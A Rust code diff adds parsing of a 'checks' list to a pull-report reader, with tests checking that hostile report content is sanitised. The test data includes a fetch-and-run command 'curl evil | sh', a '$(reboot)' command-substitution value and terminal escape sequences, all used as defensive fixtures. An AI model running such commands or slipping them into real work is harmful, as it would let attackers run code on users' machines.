@@ -7,6 +7,7 @@ use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
 use std::path::{Path, PathBuf};
 
 use super::{Commit, Copied, MAX_SECRETS, Names, Outcome, Pulled, Report, text};
+use crate::doctor::{self, Half};
 use crate::failover::Time;
 use crate::json::{self, Value};
 use crate::report::clock;
@@ -100,6 +101,8 @@ fn content(file: File, owner: u32) -> io::Result<String> {
 fn parse(report: &Value) -> Result<Report, &'static str> {
     let workspace = report.get("workspace").ok_or("workspace")?;
     let secrets = report.get("secrets").and_then(|node| node.as_array()).ok_or("secrets")?;
+    // A pull of an older version has looked at nothing.
+    let checks = report.get("checks").map(|checks| checks.as_array().map(|_| checks).ok_or("checks")).transpose()?;
     Ok(Report {
         started: required(report, "started", time)?,
         ended: required(report, "ended", time)?,
@@ -117,6 +120,7 @@ fn parse(report: &Value) -> Result<Report, &'static str> {
             said: required(workspace, "said", said)?,
         },
         secrets: secrets.iter().take(MAX_SECRETS).map(|secret| copied(secret)).collect::<Result<_, _>>()?,
+        checks: checks.map(|checks| doctor::read_list(checks, Half::Owners)).unwrap_or_default(),
     })
 }
 
@@ -171,7 +175,12 @@ mod tests {
         report.workspace.after = commit;
         report.workspace.committed = Some(at(5));
         report.secrets = vec![Copied::of(Ok(())), Copied::of(Err("no route".into()))];
+        report.checks = checks(r#"[{"id": "crons", "level": "ok", "evidence": "off", "fix": ""}]"#);
         report
+    }
+
+    fn checks(text: &str) -> Vec<doctor::Checked> {
+        doctor::read_list(&json::parse(text).unwrap(), Half::Owners)
     }
 
     fn own() -> u32 {
@@ -221,10 +230,36 @@ mod tests {
         assert!(bad(&"0123456789".repeat(4), "$(reboot)").contains("before is missing"));
         assert!(bad("1970-01-01T00:00:10.000Z", "10").contains("started"));
         assert!(bad("\"ok\":true", "\"ok\":\"yes\"").contains("ok is missing"));
+        assert!(bad("\"checks\":[", "\"checks\":7,\"more\":[").contains("checks is missing"));
         assert!(refusal("").contains("line 1"));
         assert!(refusal("[]").contains("workspace"));
         assert!(refusal(&"[".repeat(10_000)).contains("line 1"));
         assert!(refusal(&" ".repeat(16 * 1024 + 1)).contains("longer than 16384 bytes"));
+    }
+
+    #[test]
+    fn checks_of_an_enemy_bring_nothing_of_their_own() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("pull.json");
+        let checks_read = |checks: &str| {
+            let good = report().to_json().to_string();
+            let (before, _) = good.split_once("\"checks\":").unwrap();
+            fs::write(&path, format!("{before}\"checks\":{checks}}}")).unwrap();
+            read(&path, own()).unwrap().unwrap().checks
+        };
+        let hostile = checks_read(
+            r#"[{"id":"crons","level":"fail","evidence":"\u001b[2Jon\nok","fix":"curl evil | sh"},
+                {"id":"crons","level":"ok","evidence":"twice","fix":""}, 7, [], {"id":"crons"},
+                {"id":"channels","level":"splendid","evidence":"x","fix":""},
+                {"id":"polkit","level":"fail","evidence":"not its to say","fix":""},
+                {"id":"evil","level":"fail","evidence":"x","fix":""}]"#,
+        );
+        assert_eq!(hostile, checks(r#"[{"id":"crons","level":"fail","evidence":"[2Jon ok","fix":""}]"#));
+        let older = report().to_json().to_string().replace("\"checks\"", "\"other\"");
+        fs::write(&path, older).unwrap();
+        assert_eq!(read(&path, own()).unwrap().unwrap().checks, []);
+        let many = format!("[{}7]", r#"{"id":"crons","level":"ok","evidence":"off","fix":""},"#.repeat(200));
+        assert_eq!(checks_read(&many).len(), 1);
     }
 
     #[test]
